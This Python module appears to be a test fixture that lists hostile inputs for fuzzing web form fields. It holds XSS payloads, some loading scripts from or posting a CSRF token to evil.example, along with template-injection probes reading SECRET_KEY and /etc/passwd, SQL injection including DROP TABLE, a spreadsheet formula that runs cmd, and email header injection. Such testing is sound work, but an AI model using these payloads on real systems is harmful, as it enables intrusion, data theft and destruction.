"""What is typed into fields by those who want them to do something else than show it."""

from __future__ import annotations

PRODUCT = "54173879"  # 7919 * 6841, so that a template that computes is seen
SCRIPTS = (
    "<script>zq7()</script>",
    "</title><script>zq7()</script>",
    "</textarea><script>zq7()</script>",
    "<ScRiPt src=//evil.example/zq7></sCrIpT>",
    "<img src=x onerror=zq7()>",
    "<svg/onload=zq7()>",
    "<svg><animate onbegin=zq7() attributeName=x dur=1s>",
    '"><img src=x onerror=zq7()>',
    "'><img src=x onerror=zq7()>",
    '" autofocus onfocus=zq7() x="',
    "' onmouseover='zq7()' x='",
    "javascript:zq7()",
    "<a href=javascript:zq7()>zq7</a>",
    "<iframe srcdoc='<script>zq7()</script>'>",
    "<style>@import'//evil.example/zq7';</style>",
    "<base href=//evil.example/>zq7",
    "<meta http-equiv=refresh content=0;url=//evil.example/zq7>",
    "<form action=//evil.example/zq7><input name=csrf_token>",
    "<div hx-get=/sign-out hx-trigger=load>zq7</div>",
    '<div hx-on:click="zq7()" hx-post="/runs" hx-trigger="load">',
    "<!--zq7--><p>",
    "--><script>zq7()</script>",
    "]]><script>zq7()</script>",
    "&lt;script&gt;zq7()&lt;/script&gt;",
    "&#60;img src=x onerror=zq7()&#62;",
    "\\u003cscript\\u003ezq7()\\u003c/script\\u003e",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zq7()>",
    "\uff1cscript\uff1ezq7()\uff1c/script\uff1e",
)
TEMPLATES = (
    "{{ 7919*6841 }}zq7",
    "{% for x in range(9) %}zq7{% endfor %}",
    "{{ config.SECRET_KEY }}zq7",
    "${7919*6841}zq7",
    "<%= 7919*6841 %>zq7",
    "#{7919*6841}zq7",
    "%(num)d %(nothing)s %s zq7",
    "{0} {name} {x.__class__} zq7",
    '#panic("zq7")',
    '#import "/etc/passwd": * zq7',
    "$ sum_(i=0)^71 $ *zq7* _zq7_ @zq7 <zq7>",
)
QUERIES = ("%", "fictici_", "%zq7%", "' OR '1'='1", "'; DROP TABLE needs; --", "\\", "zq7\\%", 'zq7" OR ""="')
FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"//evil.example/zq7\")",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
)  # fmt: skip
LETTERS = (
    "\u202ezq7\u202c مرحبا بكم",
    "שלום zq7",
    "🌱👩🏽\u200d🌾🇨🇴 zq7",
    "Ñandú n\u0303 e\u0301 ﬁ zq7",
    "x" * 300,
    "W" * 200,
    "\u200b\u2060\ufeffzq7",
    "Z\u0351\u036b\u0343a\u0349\u0356l\u0324g\u0353o zq7",
    "zq7\u2028\u2029",
)
CONTROLS = (
    "zq7\x00zq7",
    "zq7\x07\x1b[31m\x08",
    "zq7\x7f\x9f",
    "zq7\ufffe\uffff",
    "zq7\r\nBcc: x@evil.example",
    "\x0b\x0czq7",
)
ALL = (*SCRIPTS, *TEMPLATES, *QUERIES, *FORMULAS, *LETTERS, *CONTROLS)
